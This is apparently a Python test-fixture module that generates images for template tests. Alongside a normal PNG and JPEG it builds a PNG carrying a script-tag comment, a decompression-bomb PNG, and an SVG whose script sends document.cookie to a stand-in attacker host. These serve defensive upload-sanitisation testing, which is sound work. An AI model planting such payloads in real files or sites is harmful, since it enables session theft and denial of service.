"""Images for the template tests: honest ones made with Pillow, hostile ones made byte by byte."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image, ImageDraw, PngImagePlugin


def png(
    width: int = 300, height: int = 120, color: tuple[int, int, int] = (200, 30, 30), *, alpha: bool = False
) -> bytes:
    """An ellipse on white (or on transparency), with a text chunk a re-encoding must drop."""
    image = Image.new("RGBA" if alpha else "RGB", (width, height), (255, 255, 255, 0) if alpha else "white")
    ImageDraw.Draw(image).ellipse((4, 4, width - 4, height - 4), fill=color)
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    output = io.BytesIO()
    image.save(output, "PNG", pnginfo=info)
    return output.getvalue()


def jpeg(width: int = 200, height: int = 200) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (width, height), (30, 90, 160)).save(output, "JPEG", quality=85)
    return output.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 60_000) -> bytes:
    """A PNG a few hundred bytes long that claims side × side pixels: its data, a run of zeros,
    would inflate to gigabytes."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    zeros = zlib.compress(b"\0" * (side + 1) * 64, 9)  # the first rows; the rest would follow
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zeros) + _chunk(b"IEND", b"")


SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40">
  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
  <rect width="100" height="40" fill="navy"/>
</svg>"""
